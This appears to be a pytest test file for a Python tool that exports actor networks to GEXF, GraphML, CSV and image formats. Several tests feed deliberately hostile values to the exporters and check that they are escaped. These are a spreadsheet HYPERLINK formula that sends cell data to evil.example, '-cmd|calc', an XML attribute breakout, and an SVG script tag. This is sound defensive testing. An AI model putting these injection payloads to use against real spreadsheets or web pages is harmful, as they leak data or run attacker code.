"""Exports for researchers: GEXF (checked with graphology-gexf), GraphML, CSV, PNG, SVG, PDF."""

from __future__ import annotations

import csv
import doctest
import json
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pyoxigraph as ox
import pytest
from typer.testing import CliRunner

import ruhrgraph.network.export
from ruhrgraph.cli import app
from ruhrgraph.errors import ParameterError, RuhrgraphError
from ruhrgraph.network.export import (
    COLOURS,
    EDGE_ATTRIBUTES,
    EXPORTERS,
    FORMATS,
    NODE_ATTRIBUTES,
    RESERVED,
    ExportOptions,
    annotate,
    export,
    generate_gexf,
    xml_safe,
)
from ruhrgraph.network.measures import compute
from ruhrgraph.network.views import project
from ruhrgraph.store.local import Store

DATA = Path(__file__).parent / "data" / "analytics"
JS = Path(__file__).parent / "js"
GEXF = "{http://gexf.net/1.3}"
VIZ = "{http://gexf.net/1.3/viz}"
NASTY = "Böse\x00 \x07GmbH\x1b[31m &amp; <Söhne> \"quoted\"\x0b\ufffe\ud800"


def graphology(path: Path) -> dict:  # type: ignore[type-arg]
    """What graphology-gexf (the parser of Gephi Lite) reads from ``path``."""
    node = shutil.which("node")
    if node is None or not (JS / "node_modules" / "graphology-gexf").is_dir():
        pytest.skip("node or tests/js/node_modules missing (run `npm ci` in tests/js; .ci/run does)")
    done = subprocess.run([node, str(JS / "check_gexf.mjs"), str(path)], capture_output=True, text=True,
                          timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def seed_gexf(seed: Path, out: Path, view: str = "actors") -> tuple[Path, nx.Graph]:
    with Store.open(seed, read_only=True) as store:
        graph = project(store, view)
        path = export(store, view, "gexf", out / f"{view}.gexf")
    return path, graph


@pytest.mark.parametrize("view", ["actors", "organisations", "bipartite"])
def test_seed_gexf_parses_in_graphology(seed: Path, tmp_path: Path, view: str) -> None:
    path, graph = seed_gexf(seed, tmp_path, view)
    read = graphology(path)
    assert (read["order"], read["size"]) == (graph.number_of_nodes(), graph.number_of_edges())
    assert read["type"] == "undirected" and read["multi"] is False
    types = read["nodeAttributeTypes"]
    for name in ("degree", "pagerank", "betweenness", "community", "article_count"):
        assert types[name] == ["number"], name
    assert types["articulation"] == ["boolean"]
    assert types["category"] == ["string"] and types["label"] == ["string"]
    assert types["sectors"] == ["array"]
    assert read["edgeAttributeTypes"]["weight"] == ["number"]
    assert read["edgeAttributeTypes"]["relations"] == ["array"]
    declared = read["declared"]["node"]
    assert declared["pagerank"] == "double" and declared["degree"] == "integer"
    expected_colours = {f"rgb({r},{g},{b})" for r, g, b in COLOURS.values()}
    assert {n["color"] for n in read["nodes"]} <= expected_colours
    labels = {n["label"] for n in read["nodes"]}
    assert "Business Metropole Ruhr" in labels and not any(label.startswith("http") for label in labels)
    assert all(n["size"] > 0 for n in read["nodes"])
    assert read["mode"] == "dynamic" and read["timeformat"] == "date"
    assert read["spells"]["nodes"] and read["spells"]["edges"]
    for spells in (*read["spells"]["nodes"].values(), *read["spells"]["edges"].values()):
        assert all(start <= end for start, end in spells)


def test_seed_gexf_attributes_and_weights(seed: Path, tmp_path: Path) -> None:
    path, _ = seed_gexf(seed, tmp_path)
    root = ET.parse(path).getroot()
    assert root.get("version") == "1.3"
    declared = {a.get("title"): a.get("type") for block in root.iter(GEXF + "attributes")
                for a in block.iter(GEXF + "attribute")}
    assert not {name.lower() for name in declared} & RESERVED
    assert declared["pagerank"] == "double" and declared["sectors"] == "liststring"
    for edge in root.iter(GEXF + "edge"):
        assert float(edge.get("weight")) >= 1
    for node in root.iter(GEXF + "node"):
        colour = node.find(VIZ + "color")
        assert colour is not None and colour.get("a") is None
    bmr = next(n for n in root.iter(GEXF + "node") if n.get("label") == "Business Metropole Ruhr")
    values = {v.get("for"): v.get("value") for v in bmr.iter(GEXF + "attvalue")}
    assert values["category"] == "organisation" and values["city"] == "Essen"
    sizes = {n.get("label"): float(n.find(VIZ + "size").get("value")) for n in root.iter(GEXF + "node")}
    assert max(sizes, key=sizes.get) == "Business Metropole Ruhr"  # type: ignore[arg-type]


def test_control_characters_give_well_formed_xml(tmp_path: Path) -> None:
    graph = nx.Graph(view="actors")
    graph.add_node("urn:x:1", label=NASTY, category="organisation", sectors=(NASTY, "IT"), spells=())
    graph.add_node("urn:x:2", label="Zweite\x01", category="person", city=NASTY, spells=())
    graph.add_edge("urn:x:1", "urn:x:2", weight=1.0, relations=(NASTY,), events=(), spells=())
    annotate(graph, compute(graph))
    path = tmp_path / "nasty.gexf"
    path.write_text("\n".join(generate_gexf(graph)), encoding="utf-8")
    root = ET.parse(path).getroot()  # well-formed
    label = next(root.iter(GEXF + "node")).get("label")
    assert label == 'Böse GmbH[31m &amp; <Söhne> "quoted"'
    read = graphology(path)
    assert read["nodes"][0]["label"] == label
    assert read["nodes"][0]["sectors"] == ['Böse GmbH[31m &amp; <Söhne> "quoted"', "IT"]


def test_control_characters_from_the_store(tmp_path: Path) -> None:
    trig = (DATA / "five_actors.trig").read_text(encoding="utf-8").replace(
        '"Korea"@de', '"Ko\\u0007rea\\u001B <&>"@de')
    with Store.open(None) as store:
        store.oxigraph.load(trig, format=ox.RdfFormat.TRIG)
        for fmt in ("gexf", "graphml"):
            out = export(store, "actors", fmt, tmp_path / f"a.{fmt}")
            text = out.read_text(encoding="utf-8")
            assert "\x07" not in text and "\x1b" not in text
            ET.parse(out)
    assert "Korea &lt;&amp;&gt;" in (tmp_path / "a.gexf").read_text(encoding="utf-8")


def test_graphml_has_the_same_graph(seed: Path, tmp_path: Path) -> None:
    with Store.open(seed, read_only=True) as store:
        graph = project(store, "actors")
        out = export(store, "actors", "graphml", tmp_path / "actors.graphml")
    read = nx.read_graphml(out)
    assert read.number_of_nodes() == graph.number_of_nodes()
    assert read.number_of_edges() == graph.number_of_edges()
    bmr = next(d for _, d in read.nodes(data=True) if d["label"] == "Business Metropole Ruhr")
    assert isinstance(bmr["pagerank"], float) and isinstance(bmr["degree"], int)
    assert isinstance(bmr["articulation"], bool)
    assert all(isinstance(d["weight"], float) for _, _, d in read.edges(data=True))


def test_csv_tables_for_the_spreadsheet_import(five: Store, tmp_path: Path) -> None:
    out = export(five, "actors", "csv", tmp_path / "tables")
    nodes = list(csv.DictReader((out / "nodes.csv").open(encoding="utf-8")))
    edges = list(csv.DictReader((out / "edges.csv").open(encoding="utf-8")))
    assert len(nodes) == 5 and len(edges) == 5
    assert list(nodes[0])[:2] == ["Id", "Label"]
    assert list(edges[0])[:4] == ["Source", "Target", "Type", "Weight"]
    alpha = next(n for n in nodes if n["Label"] == "Alpha Technik GmbH")
    assert alpha["articulation"] == "true" and alpha["sectors"] == "Medizintechnik"
    assert alpha["Interval"] == "<[2023-10-02, 2023-10-02]; [2023-11-14, 2023-11-17]>"
    assert {e["Weight"] for e in edges} == {"1.0", "2.0"}
    assert set(NODE_ATTRIBUTES) - {"wikidata"} <= set(nodes[0]) and set(EDGE_ATTRIBUTES) <= set(edges[0])


SVG = "{http://www.w3.org/2000/svg}"


@pytest.mark.parametrize(("fmt", "magic"), [("png", b"\x89PNG"), ("svg", b"<?xml"), ("pdf", b"%PDF-")])
def test_pictures_are_written_and_deterministic(seed: Path, tmp_path: Path, fmt: str, magic: bytes) -> None:
    with Store.open(seed, read_only=True) as store:
        first = export(store, "actors", fmt, tmp_path / f"a.{fmt}").read_bytes()
        second = export(store, "actors", fmt, tmp_path / f"b.{fmt}").read_bytes()
    assert first.startswith(magic) and len(first) > 10_000
    assert first == second


def test_svg_labels_are_real_text(seed: Path, tmp_path: Path) -> None:
    """The labels, the legend and the title are <text> elements (editable in Inkscape), not paths."""
    with Store.open(seed, read_only=True) as store:
        graph = project(store, "actors")
        report = compute(graph)
        out = export(store, "actors", "svg", tmp_path / "a.svg")
    root = ET.fromstring(out.read_text(encoding="utf-8"))
    texts = {"".join(t.itertext()).strip() for t in root.iter(SVG + "text")}
    assert report.labels[report.top("pagerank", 1)[0][0]] in texts  # the most central actor
    assert {"organisation", "person", "type"} <= texts  # the legend
    assert any(t.startswith("ruhrgraph — actors view") for t in texts)
    top = [label for _, label, _, _ in report.top("pagerank", 15)]
    assert len(texts & set(top)) >= 8


def crowded(n: int = 40, isolates: int = 60) -> nx.Graph:
    """A clique of ``n`` actors with long names (laid out on a tight circle) and a row of isolates."""
    graph = nx.Graph(view="actors")
    for i in range(n + isolates):
        graph.add_node(f"urn:x:{i:03d}", label=f"Wirtschaftsförderungsgesellschaft Nummer {i}",
                       category="person" if i >= n else "organisation")
    graph.add_edges_from((f"urn:x:{a:03d}", f"urn:x:{b:03d}", {"weight": 1.0 + (a + b) % 3})
                          for a in range(n) for b in range(a + 1, n))
    annotate(graph, compute(graph))
    return graph


def test_picture_labels_do_not_overlap() -> None:
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    from ruhrgraph.network._layout import overlapping
    from ruhrgraph.network.export import draw

    graph = crowded()
    fig = draw(graph, ExportOptions(labels=30))
    renderer = FigureCanvasAgg(fig).get_renderer()
    ax = fig.axes[0]
    labels = [t for t in ax.texts if t.get_text().startswith("Wirtschaft")]
    boxes = [tuple(t.get_window_extent(renderer).bounds) for t in labels]
    boxes = [(x, y, x + w, y + h) for x, y, w, h in boxes]
    assert len(labels) >= 5  # fewer than asked for, but some
    assert overlapping(boxes) == []
    frame = ax.get_window_extent(renderer)
    assert all(frame.x0 <= b[0] and b[2] <= frame.x1 and frame.y0 <= b[1] and b[3] <= frame.y1 for b in boxes)


def test_the_legend_sits_beside_the_network() -> None:
    """The legend is right of every node: not in the row of isolated nodes below the network,
    where it was mistaken for part of it (or covered nodes)."""
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    from ruhrgraph.network.export import draw

    for graph in (crowded(10, 120), crowded(40, 13)):
        fig = draw(graph, ExportOptions(labels=0))
        renderer = FigureCanvasAgg(fig).get_renderer()
        ax = fig.axes[0]
        legend = ax.get_legend().get_window_extent(renderer)
        nodes = ax.collections[-1]  # the node markers
        assert len(nodes.get_offsets()) == graph.number_of_nodes()
        rightmost = ax.transData.transform(nodes.get_offsets())[:, 0].max()
        assert rightmost + 30 < legend.x0  # 30 px: more than the largest node's radius
        assert [t.get_text() for t in ax.get_legend().get_texts()] == ["organisation", "person"]


def test_gexf_is_deterministic(five: Store, tmp_path: Path) -> None:
    a = export(five, "actors", "gexf", tmp_path / "a.gexf").read_bytes()
    b = export(five, "actors", "gexf", tmp_path / "b.gexf").read_bytes()
    assert a == b


@pytest.mark.parametrize(("kwargs", "message"), [
    ({"view": "nodes", "fmt": "gexf"}, "unknown view"),
    ({"view": "actors", "fmt": "xlsx"}, "unknown export format 'xlsx'"),
    ({"view": "actors", "fmt": "gexf", "options": ExportOptions(size_by="label")},
     "cannot size nodes by 'label'"),
])
def test_bad_requests_are_explained(five: Store, tmp_path: Path, kwargs: dict, message: str) -> None:  # type: ignore[type-arg]
    with pytest.raises(ParameterError, match=message):
        export(five, out=tmp_path / "x", **kwargs)
    assert not (tmp_path / "x").exists()


def test_missing_output_folder(five: Store, tmp_path: Path) -> None:
    with pytest.raises(ParameterError, match="does not exist"):
        export(five, "actors", "gexf", tmp_path / "nope" / "a.gexf")


def test_cli_export(five: Store, tmp_path: Path) -> None:
    store_dir = tmp_path / "store"
    with Store.open(store_dir) as store:
        store.oxigraph.load(path=str(DATA / "five_actors.trig"), format=ox.RdfFormat.TRIG)
    result = CliRunner().invoke(app, ["export", "--store", str(store_dir), "--format", "gexf",
                                      "--out", str(tmp_path / "a.gexf"), "--size-by", "betweenness"])
    assert result.exit_code == 0, result.output
    assert "size = betweenness" in (tmp_path / "a.gexf").read_text(encoding="utf-8")
    bad = CliRunner().invoke(app, ["export", "--store", str(store_dir), "--format", "xlsx", "--out",
                                   str(tmp_path / "a.xlsx")])
    assert bad.exit_code == 2 and "unknown export format" in bad.output


def test_cli_infers_the_format_from_the_suffix(tmp_path: Path) -> None:
    store_dir = tmp_path / "store"
    with Store.open(store_dir) as store:
        store.oxigraph.load(path=str(DATA / "five_actors.trig"), format=ox.RdfFormat.TRIG)
    runner = CliRunner()
    for name, magic in (("a.svg", b"<?xml"), ("a.PDF", b"%PDF-"), ("a.png", b"\x89PNG"), ("a.gexf", b"<?xml"),
                        ("a.graphml", b"<graphml")):
        result = runner.invoke(app, ["export", "--store", str(store_dir), "--out", str(tmp_path / name)])
        assert result.exit_code == 0, result.output
        assert (tmp_path / name).read_bytes().startswith(magic), name
    assert b"<gexf" in (tmp_path / "a.gexf").read_bytes() and b"<graphml" in (tmp_path / "a.graphml").read_bytes()
    result = runner.invoke(app, ["export", "--store", str(store_dir), "--out", str(tmp_path / "tables")])
    assert result.exit_code == 0 and (tmp_path / "tables" / "nodes.csv").is_file()
    unknown = runner.invoke(app, ["export", "--store", str(store_dir), "--out", str(tmp_path / "a.xyz")])
    assert unknown.exit_code == 2 and "cannot tell the export format" in unknown.output
    clash = runner.invoke(app, ["export", "--store", str(store_dir), "--format", "png", "--out",
                                str(tmp_path / "b.svg")])
    assert clash.exit_code == 2 and "ends in .svg" in clash.output and not (tmp_path / "b.svg").exists()


def test_the_gephi_guide_cannot_drift() -> None:
    """docs/gephi.md names every view, format, exported attribute and written measure, and shows
    the picture."""
    from ruhrgraph.network.export import FORMATS
    from ruhrgraph.network.measures import MEASURES
    from ruhrgraph.network.views import VIEWS

    guide = (Path(__file__).resolve().parents[1] / "docs" / "gephi.md").read_text(encoding="utf-8")
    for name in (*VIEWS, *NODE_ATTRIBUTES, *EDGE_ATTRIBUTES):
        assert f"`{name}`" in guide or f"| {name} |" in guide or f"| {name}," in guide, name
    for fmt in FORMATS:
        assert f"--format {fmt}" in guide, fmt
    for term, _, _ in MEASURES.values():
        if term:
            assert f"rg:{term}" in guide, term
    assert "![" in guide and (Path(__file__).resolve().parents[1] / "docs" / "img" / "actors.png").is_file()


def test_every_built_in_format_is_a_registered_exporter() -> None:
    assert EXPORTERS.names()[:len(FORMATS)] == list(FORMATS)
    assert EXPORTERS.get("csv") is ruhrgraph.network.export.write_csv


def test_export_goes_through_the_registry(five: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(EXPORTERS, "_items", dict(EXPORTERS._items))

    @EXPORTERS.register("count")
    def write_count(graph: nx.Graph, out: Path, options: ExportOptions) -> Path:
        out.write_text(f"{graph.number_of_nodes()} nodes, sized by {options.size_by}\n", encoding="utf-8")
        return out

    written = export(five, "actors", "count", tmp_path / "a.txt", options=ExportOptions(size_by="degree"))
    assert written.read_text(encoding="utf-8") == "5 nodes, sized by degree\n"


def test_a_failed_file_export_leaves_nothing_behind(five: Store, tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(EXPORTERS, "_items", dict(EXPORTERS._items))

    def half(graph: nx.Graph, out: Path, options: ExportOptions) -> Path:
        out.write_text("<gexf", encoding="utf-8")
        raise OSError("disk full")

    EXPORTERS.register("half", ruhrgraph.network.export._whole_file(half))
    with pytest.raises(RuhrgraphError, match="disk full"):
        export(five, "actors", "half", tmp_path / "a.half")
    assert list(tmp_path.iterdir()) == []


def test_xml_safe() -> None:
    assert xml_safe("a\x00b\tc\n d\ufffe") == "ab c d"


def test_doctests() -> None:
    assert doctest.testmod(ruhrgraph.network.export).failed == 0


def test_layout_does_not_depend_on_insertion_order() -> None:
    """The store may return nodes in any order from one process to the next; the picture may not
    change with it."""
    import networkx as nx

    from ruhrgraph.network.export import layout

    edges = [("a", "b"), ("b", "c"), ("c", "d"), ("d", "a"), ("a", "c"), ("e", "f"), ("f", "g")]
    forward, backward = nx.Graph(), nx.Graph()
    forward.add_edges_from(edges)
    backward.add_nodes_from(sorted(forward.nodes, reverse=True))
    backward.add_edges_from(reversed([(v, u) for u, v in edges]))
    assert layout(forward) == layout(backward)


# -- issue 17 ----------------------------------------------------------------------------------------
def _hostile() -> nx.Graph:
    graph = nx.Graph(view="actors")
    graph.add_node("urn:x:1", label='=HYPERLINK("http://evil.example/?"&A1,"klick")', category="organisation",
                   sectors=("@SUM(1+1)", "IT"), spells=(('2024-01-01"/><x a="', "2024-12-31"),))
    graph.add_node("urn:x:2", label=r"Geld $\undefined{$ GmbH", category="organisation", city="+49 201",
                   spells=(("2024-02-01", "2024-02-01"),))
    graph.add_edge("urn:x:1", "urn:x:2", weight=1.0, relations=("-cmd|calc",), events=(),
                   spells=(("2024<", "&2024"),))
    annotate(graph, compute(graph))
    return graph


def test_csv_cells_cannot_start_a_formula() -> None:
    from ruhrgraph.network.export import generate_csv

    nodes, edges = generate_csv(_hostile())
    cells = [c for text in (nodes, edges) for row in csv.reader(text.splitlines()) for c in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")" in cells
    assert "'+49 201" in cells and "'-cmd|calc" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]


def test_spell_dates_are_escaped_in_gexf(tmp_path: Path) -> None:
    path = tmp_path / "spells.gexf"
    path.write_text("\n".join(generate_gexf(_hostile())), encoding="utf-8")
    root = ET.parse(path).getroot()  # well-formed
    starts = sorted(s.get("start") for s in root.iter(GEXF + "spell"))
    assert starts == ["2024-01-01\"/><x a=\"", "2024-02-01", "2024<"]
    assert not list(root.iter("x"))


@pytest.mark.parametrize("fmt", ["png", "svg", "pdf"])
def test_a_dollar_in_a_label_is_drawn_as_text(tmp_path: Path, fmt: str) -> None:
    from ruhrgraph.network.export import EXPORTERS

    out = EXPORTERS.get(fmt)(_hostile(), tmp_path / f"dollar.{fmt}", ExportOptions())
    assert out.stat().st_size > 1000


def test_svg_text_is_escaped(tmp_path: Path) -> None:
    """Labels become <text> content now: markup in a name stays text, never an element."""
    graph = nx.Graph(view="actors")
    graph.add_node("urn:x:1", label='</text><script>alert(1)</script> & "Söhne"', category="organisation")
    graph.add_node("urn:x:2", label="Zweite GmbH", category="organisation")
    graph.add_edge("urn:x:1", "urn:x:2", weight=1.0, relations=("affiliation",))
    annotate(graph, compute(graph))
    out = EXPORTERS.get("svg")(graph, tmp_path / "x.svg", ExportOptions())
    root = ET.fromstring(out.read_text(encoding="utf-8"))
    assert not [e for e in root.iter() if e.tag.endswith("script")]
    texts = {"".join(t.itertext()).strip() for t in root.iter(SVG + "text")}
    assert '</text><script>alert(1)</script> & "Söhne"' in texts
